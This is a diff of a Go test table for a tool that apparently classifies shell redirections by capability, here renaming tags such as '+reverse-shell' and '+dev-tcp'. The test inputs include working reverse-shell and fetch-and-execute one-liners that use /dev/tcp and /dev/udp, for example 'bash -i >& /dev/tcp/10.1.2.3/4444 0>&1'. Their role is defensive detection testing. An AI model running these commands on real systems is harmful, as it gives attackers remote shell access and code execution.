@@ -153,10 +153,10 @@ func TestRedirections(t *testing.T) {
 		{`echo err >&2`, nil, w("fs.write")},
 		{`echo x > "$LOG"`, w("fs.write +unknown-path"), w("unresolved")},
 		{`echo x > "logs/$NAME.log"`, w("fs.write +unknown-path"), w("unresolved")},
-		{`bash -i >& /dev/tcp/10.1.2.3/4444 0>&1`, w("net.tunnel 10.1.2.3 +reverse-shell"), nil},
+		{`bash -i >& /dev/tcp/10.1.2.3/4444 0>&1`, w("net.tunnel 10.1.2.3 +reverse +shell"), nil},
 		{`exec 5<>/dev/tcp/10.1.2.3/4444`, w("net.tunnel 10.1.2.3"), nil},
-		{`sh < /dev/tcp/10.1.2.3/4444`, w("net.connect 10.1.2.3 +dev-tcp", "exec.download"), nil},
-		{`cat < /dev/tcp/10.1.2.3/13`, w("net.connect 10.1.2.3 +dev-tcp"), nil},
+		{`sh < /dev/tcp/10.1.2.3/4444`, w("net.connect 10.1.2.3 +raw", "exec.download"), nil},
+		{`cat < /dev/tcp/10.1.2.3/13`, w("net.connect 10.1.2.3 +raw"), nil},
 		{`exec 5<>/dev/udp/10.1.2.3/53; cat <&5 | while read l; do $l; done`, w("net.connect 10.1.2.3"), nil},
 	})
 }
